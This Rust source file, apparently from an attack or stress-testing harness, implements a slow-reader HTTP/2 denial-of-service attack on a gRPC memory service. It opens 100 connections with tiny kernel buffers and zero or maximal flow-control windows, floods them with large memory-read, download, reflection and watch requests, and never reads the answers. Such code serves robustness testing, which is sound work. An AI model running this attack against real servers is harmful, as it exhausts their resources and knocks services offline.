//! Readers that never read: downloads, reads, lists and reflection whose answers nobody takes, with
//! windows of nothing and windows of everything.

use std::time::Duration;

use crate::attacker::{Order, Tally};
use crate::calls::Caller;
use crate::protobuf::{VARINT, delimited, raw, varint};
use crate::wire::{
    DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, Peer, WIDEST, WINDOW_UPDATE, call_of,
    frame, greeting, message, stream,
};

const CONNECTIONS: u64 = 100;
/// What the kernel keeps for each of them.
const ROOM: u32 = 4_096;
const STAY: Duration = Duration::from_secs(4);

pub(crate) async fn attack(order: Order) -> Tally {
    if let Some(caller) = Caller::connect(order.target).await {
        caller.tend().await;
    }
    let mut all = Tally::default();
    let mut open = Vec::new();
    let each = (order.inputs / CONNECTIONS).max(1);
    for connection in 0..CONNECTIONS {
        let Ok(mut peer) = Peer::connect_with(order.target, Some(ROOM)).await else {
            all.ended += 1;
            continue;
        };
        let window = if connection.is_multiple_of(2) { WIDEST } else { 0 };
        let mut begin = greeting(&[(INITIAL_WINDOW, window)]);
        begin.extend(frame(WINDOW_UPDATE, 0, 0, &(WIDEST - 65_535).to_be_bytes()));
        for number in 0..each {
            let (path, body) = asked(number);
            begin.extend(frame(HEADERS, END_HEADERS, stream(number), &call_of(path, &[])));
            begin.extend(frame(DATA, END_STREAM, stream(number), &message(&body)));
        }
        all.inputs += each;
        if peer.write(&begin).await.is_ok() {
            open.push(peer);
        }
    }
    tokio::time::sleep(STAY).await;
    for mut peer in open {
        all.saw(0, peer.listen(Duration::ZERO, u64::MAX).await);
    }
    all
}

fn asked(number: u64) -> (&'static str, Vec<u8>) {
    let memory = delimited(1, b"m");
    let read = raw(4, VARINT, &varint(2 * 65_536 - 1));
    match number % 4 {
        0 => ("/linmem.v1.MemoryService/ReadMemory", [memory, read].concat()),
        1 => ("/linmem.v1.MemoryService/DownloadMemory", memory),
        2 => {
            let symbol = delimited(4, b"linmem.v1.MemoryService");
            ("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", symbol)
        }
        _ => ("/linmem.v1.EventService/WatchEvents", Vec::new()),
    }
}
